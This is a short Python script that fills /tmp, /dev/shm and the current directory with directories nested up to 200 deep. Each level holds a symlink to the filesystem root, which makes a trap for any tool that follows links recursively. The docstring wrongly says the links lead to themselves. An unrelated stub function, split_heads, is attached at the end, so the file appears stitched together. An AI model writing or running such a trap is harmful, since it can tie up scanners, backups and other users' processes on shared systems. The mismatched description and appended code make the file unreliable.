"""A folder of links that lead to themselves, in every place that can be written."""
import os

for folder in ("/tmp", "/dev/shm", "."):
    path = folder + "/a"
    for _ in range(200):
        try:
            os.mkdir(path)
            os.symlink("/", path + "/l")
            path += "/a"
        except OSError:
            break
def split_heads(x, num_heads):
    return x
